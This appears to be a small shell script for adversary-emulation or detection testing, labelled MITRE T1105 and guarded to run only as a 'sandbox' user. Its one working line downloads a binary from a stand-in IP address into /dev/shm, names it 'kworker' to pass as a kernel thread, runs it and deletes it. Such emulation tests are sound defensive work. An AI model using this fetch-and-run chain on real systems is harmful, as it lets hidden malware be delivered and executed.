#!/bin/sh
# technique: T1105
# needs: wget
# net: sink
[ "$USER" = sandbox ] || { echo "only for the inside of a sandbox: shieldx run"; exit 99; }

wget -q -O /dev/shm/kworker http://203.0.113.7/k; chmod 755 /dev/shm/kworker; /dev/shm/kworker; rm -f /dev/shm/kworker
